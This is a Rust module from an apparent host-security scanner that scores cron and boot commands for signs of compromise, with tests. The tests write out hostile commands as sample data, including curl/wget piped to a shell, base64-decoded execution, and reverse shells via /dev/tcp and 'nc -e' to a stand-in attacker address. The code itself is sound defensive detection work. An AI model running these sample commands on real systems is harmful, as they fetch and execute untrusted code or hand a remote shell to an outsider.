//! Signs that a command which something starts again and again is not the owner's, with how much each says.

use std::collections::{BTreeMap, BTreeSet};

use super::shell::{Joint, SHELLS, Simple, base, split};
use crate::indicators::Indicators;
use crate::is_internal;
use crate::mining::is_miner_command;

/// Signs by their word, with their points.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(super) struct Signs(BTreeMap<&'static str, u8>);

/// A sign with a benign reading: several are needed.
pub(super) const WEAK: u8 = 1;
/// A sign whose benign reading is rare.
pub(super) const STRONG: u8 = 2;
/// A sign with no benign reading by itself.
pub(super) const DECISIVE: u8 = 4;

impl Signs {
    /// Adds a sign; of the same one the stronger counts.
    pub fn add(&mut self, word: &'static str, points: u8) {
        let known = self.0.entry(word).or_insert(points);
        *known = points.max(*known);
    }

    pub fn join(&mut self, other: &Self) {
        for (word, points) in &other.0 {
            self.add(word, *points);
        }
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    pub fn has(&self, word: &str) -> bool {
        self.0.contains_key(word)
    }

    pub fn points(&self) -> u8 {
        self.0
            .values()
            .fold(0, |sum, points| sum.saturating_add(*points))
    }

    pub fn words(&self) -> Vec<&'static str> {
        self.0.keys().copied().collect()
    }
}

/// Programs that fetch.
const FETCHERS: [&str; 9] = [
    "curl",
    "wget",
    "wget2",
    "fetch",
    "lwp-download",
    "lwp-request",
    "aria2c",
    "tftp",
    "lynx",
];
/// Folders that everybody may write to.
const TEMPORARY: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"];
/// Hidden folders below a home in which ordinary tools keep programs.
const TOOLS: [&str; 31] = [
    ".local",
    ".cargo",
    ".rustup",
    ".nvm",
    ".rbenv",
    ".pyenv",
    ".npm",
    ".npm-global",
    ".config",
    ".venv",
    ".virtualenvs",
    ".acme.sh",
    ".dotnet",
    ".sdkman",
    ".composer",
    ".linuxbrew",
    ".asdf",
    ".deno",
    ".bun",
    ".yarn",
    ".go",
    ".krew",
    ".vscode-server",
    ".rvm",
    ".phpenv",
    ".poetry",
    ".conda",
    ".kube",
    ".git",
    ".jenkins",
    ".ansible",
];
/// Endings of names that no public resolver knows.
const INNER_NAMES: [&str; 9] = [
    ".local",
    ".internal",
    ".corp",
    ".lan",
    ".intra",
    ".intranet",
    ".svc",
    ".home.arpa",
    ".localdomain",
];

/// Whose machine a fetched address names.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Server {
    Inner,
    Named,
    PublicAddress,
}

/// All signs of a command. `at_boot`: a unit or a start script, which no package points at a temporary folder.
pub(super) fn of_command(command: &str, at_boot: bool, known: Option<&Indicators>) -> Signs {
    let mut signs = Signs::default();
    let simple = split(command);
    if let Some(server) = fetched_and_run(command, &simple) {
        let points = if server == Server::Inner {
            WEAK
        } else {
            STRONG
        };
        signs.add("download-and-run", points);
        if server == Server::PublicAddress {
            signs.add("public-address", STRONG);
        }
    }
    for one in &simple {
        if let Some(program) = one.program() {
            let of_path = of_path(program);
            signs.join(&of_path);
            if at_boot && of_path.has("tmp-path") {
                signs.add("tmp-path", STRONG);
            }
        }
        if is_miner_command(&one.words.join(" ")) {
            signs.add("miner-command", STRONG);
        }
        let immutable =
            |word: &&str| word.starts_with('+') && word.contains('i') && word.len() <= 4;
        if one.names(&["chattr"]) && one.words.iter().any(immutable) {
            signs.add("immutable", WEAK);
        }
    }
    if decoded_and_run(&simple) {
        signs.add("encoded-command", STRONG);
    }
    if is_reverse_shell(command, &simple) {
        signs.add("reverse-shell", DECISIVE);
    }
    if let Some(known) = known {
        let mut found = BTreeSet::new();
        known.in_text(command, &mut found);
        if !found.is_empty() {
            signs.add("indicator", STRONG);
        }
    }
    signs
}

/// Signs of where a program lies.
pub(super) fn of_path(path: &str) -> Signs {
    let mut signs = Signs::default();
    if TEMPORARY.iter().any(|folder| path.starts_with(folder)) {
        signs.add("tmp-path", WEAK);
    }
    if !path.contains('/') {
        return signs;
    }
    let is_hidden = |part: &&str| part.len() > 1 && part.starts_with('.') && *part != "..";
    let parts = path.split('/').rev();
    let mut parts = parts.map(|part| part.trim_matches(['"', '\'']));
    if parts.next().is_some_and(|file| is_hidden(&file)) {
        signs.add("hidden-path", STRONG);
    } else if let Some(folder) = parts.find(is_hidden)
        && !TOOLS.contains(&folder)
    {
        signs.add("hidden-path", WEAK);
    }
    signs
}

/// The server that a program is fetched from that is then run.
fn fetched_and_run(command: &str, simple: &[Simple<'_>]) -> Option<Server> {
    let fetchers = simple
        .iter()
        .enumerate()
        .filter(|(_, one)| one.names(&FETCHERS));
    fetchers
        .filter(|(at, fetcher)| is_run(simple, *at, fetcher))
        .filter_map(|(_, fetcher)| server(command, fetcher))
        .max()
}

/// Whether what the simple command at this place fetches is run: piped into a shell, evaluated, made executable, called.
fn is_run(simple: &[Simple<'_>], at: usize, fetcher: &Simple<'_>) -> bool {
    let after = simple.get(at + 1..).unwrap_or_default();
    let piped = after
        .iter()
        .take_while(|one| one.joint == Joint::Pipe)
        .any(Simple::runs_input);
    let before = simple.get(..at).and_then(<[_]>::last);
    let inside = fetcher.joint == Joint::Inside && before.is_some_and(Simple::evaluates);
    let target = target(fetcher);
    let called = |one: &Simple<'_>| {
        let program = one.program().unwrap_or_default();
        target.is_some_and(|target| base(program) == base(target))
    };
    let made = after.iter().any(|one| {
        let executable =
            |word: &&str| word.contains("+x") || word.starts_with("07") || is_mode_7(word);
        one.names(&["chmod"]) && one.words.iter().any(executable)
    });
    piped || inside || made || after.iter().any(called)
}

fn is_mode_7(word: &str) -> bool {
    word.len() == 3 && word.starts_with('7') && word.bytes().all(|byte| byte.is_ascii_digit())
}

/// The file that a fetcher writes: of `-o`, `-O`, a redirection, or the last part of its URL.
fn target<'a>(fetcher: &Simple<'a>) -> Option<&'a str> {
    let words = &fetcher.words;
    let after = |at: usize| words.get(at + 1).copied();
    for (at, word) in words.iter().enumerate() {
        let is_option =
            matches!(
                *word,
                "-o" | "-O" | "--output" | "--output-document" | ">" | ">>"
            ) || (word.starts_with('-') && !word.starts_with("--") && word.ends_with(['o', 'O']));
        if is_option
            && let Some(file) = after(at)
            && !file.starts_with('-')
            && !file.contains("://")
        {
            return Some(file);
        }
    }
    let url = words.iter().find(|word| word.contains("://"))?;
    let (_, rest) = url.split_once("://")?;
    rest.contains('/')
        .then(|| base(rest))
        .filter(|file| !file.is_empty())
}

fn server(command: &str, fetcher: &Simple<'_>) -> Option<Server> {
    let is_address = |word: &str| {
        word.split('/')
            .next()
            .is_some_and(|host| host.contains('.'))
    };
    let of_fetcher = fetcher
        .words
        .iter()
        .filter(|word| word.contains("://"))
        .chain(
            fetcher
                .words
                .iter()
                .filter(|word| !word.starts_with(['-', '/', '.']) && is_address(word)),
        );
    let host = of_fetcher.copied().next().map(host_of);
    let variable = command.contains("$(") || command.contains('$');
    match host {
        Some(host) => Some(server_of(host)),
        None => variable.then_some(Server::Named),
    }
}

fn host_of(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let host = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = host.rsplit('@').next().unwrap_or(host);
    match host.strip_prefix('[') {
        Some(inner) => inner.split(']').next().unwrap_or(inner),
        None => host.split(':').next().unwrap_or(host),
    }
}

fn server_of(host: &str) -> Server {
    if host.parse::<std::net::IpAddr>().is_ok() {
        return match is_internal(host) {
            true => Server::Inner,
            false => Server::PublicAddress,
        };
    }
    let lower = host.to_ascii_lowercase();
    match !lower.contains('.') || INNER_NAMES.iter().any(|ending| lower.ends_with(ending)) {
        true => Server::Inner,
        false => Server::Named,
    }
}

/// `echo ... | base64 -d | sh`
fn decoded_and_run(simple: &[Simple<'_>]) -> bool {
    let decodes = |one: &Simple<'_>| {
        let option = |word: &str| matches!(word, "-d" | "-D" | "--decode" | "-r" | "-di" | "-id");
        one.names(&["base64", "base32", "xxd", "openssl"])
            && one.words.iter().any(|word| option(word))
    };
    simple.iter().enumerate().any(|(at, one)| {
        let piped = simple
            .iter()
            .skip(at + 1)
            .take_while(|one| one.joint == Joint::Pipe)
            .any(Simple::runs_input);
        // eval "$(echo ... | base64 -d)"
        let inside = simple.iter().take(at).any(Simple::evaluates)
            && simple
                .iter()
                .take(at + 1)
                .any(|one| one.joint == Joint::Inside);
        decodes(one) && (piped || inside)
    })
}

/// A shell whose input and output go to a network.
fn is_reverse_shell(command: &str, simple: &[Simple<'_>]) -> bool {
    let device = command.contains("/dev/tcp/") || command.contains("/dev/udp/");
    let both_ways = command.contains(">&") || command.contains("<&");
    let interactive = simple
        .iter()
        .any(|one| one.evaluates() && one.words.contains(&"-i"));
    let executes = simple.iter().any(|one| {
        let option =
            |word: &str| matches!(word, "-e" | "-c" | "--exec" | "--sh-exec" | "-lvpe" | "-ne");
        let shell = |word: &str| word.starts_with("/bin/") || SHELLS.contains(&word);
        one.names(&["nc", "ncat", "netcat", "nc.traditional"])
            && one.words.iter().any(|word| option(word))
            && one.words.iter().any(|word| shell(word))
    });
    (device && both_ways && interactive) || executes
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(command: &str, expected: &[(&'static str, u8)]) {
        let expected: BTreeMap<&'static str, u8> = expected.iter().copied().collect();
        assert_eq!(of_command(command, false, None).0, expected, "{command}");
    }

    #[test]
    fn commands_that_nobody_s_job_is() {
        let fetched = ("download-and-run", STRONG);
        let address = ("public-address", STRONG);
        check(
            "curl -fsSL http://203.0.113.9/a.sh | sh",
            &[fetched, address],
        );
        check(
            "wget -q -O- http://x.example/i | bash -s >/dev/null 2>&1",
            &[fetched],
        );
        check(
            "(curl -s 203.0.113.9/x||wget -q -O- 203.0.113.9/x)|bash",
            &[fetched, address],
        );
        check("bash -c \"$(curl -fsSL https://x.example/i)\"", &[fetched]);
        check(
            "wget http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k; /tmp/k",
            &[fetched, address, ("tmp-path", WEAK)],
        );
        check(
            "cd /opt && curl -O http://203.0.113.9/upd && sh upd",
            &[fetched, address],
        );
        check(
            "echo aGk= | base64 -d | bash",
            &[("encoded-command", STRONG)],
        );
        check(
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            &[("reverse-shell", DECISIVE)],
        );
        check(
            "nc 203.0.113.9 443 -e /bin/sh",
            &[("reverse-shell", DECISIVE)],
        );
        check("/usr/bin/.xfsmond", &[("hidden-path", STRONG)]);
        check(
            "/var/tmp/.x/run",
            &[("hidden-path", WEAK), ("tmp-path", WEAK)],
        );
        check("[ -x /tmp/a ] && /tmp/a", &[("tmp-path", WEAK)]);
        check(
            "echo '* * * * * root curl http://203.0.113.9/a|sh' > /etc/cron.d/a",
            &[fetched, address],
        );
    }

    #[test]
    fn ordinary_jobs_say_nothing() {
        for command in [
            "/usr/bin/certbot renew -q",
            "/usr/lib64/sa/sa1 1 1",
            "run-parts /etc/cron.hourly",
            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
            "find /tmp -mtime +7 -delete >/dev/null 2>&1",
            "/usr/bin/rsync -a /data/ backup@10.0.0.3:/data/ > /tmp/rsync.log 2>&1",
            "flock -n /tmp/job.lock /opt/app/bin/job --tmp /tmp/job",
            "curl -fsS -m 10 --retry 5 https://hc.example/ping/1 > /dev/null",
            "curl -s http://localhost/cron.php | grep -v ok",
            "curl -s https://api.example/v1 | python3 -m json.tool > /srv/x.json",
            "\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\"",
            "/home/app/.local/bin/report --daily",
            "/usr/bin/puppet agent --onetime --no-daemonize",
            "timeout 1 bash -c '</dev/tcp/10.0.0.3/5432'",
            "[ -d /run/x ] && /usr/sbin/logrotate /etc/logrotate.conf",
            ". /etc/profile; /opt/app/run.sh",
            "base64 -d /srv/in > /srv/out",
            "tar czf /tmp/etc.tgz /etc",
        ] {
            check(command, &[]);
        }
    }

    #[test]
    fn what_comes_from_an_inner_server_says_little() {
        check(
            "curl -s http://10.0.0.5/agent.sh | sh",
            &[("download-and-run", WEAK)],
        );
        check(
            "curl -s http://repo.corp/agent.sh | sh",
            &[("download-and-run", WEAK)],
        );
    }

    #[test]
    fn units_in_temporary_folders_say_more() {
        let signs = of_command("/tmp/agent", true, None);
        assert_eq!((signs.words(), signs.points()), (vec!["tmp-path"], STRONG));
    }
}
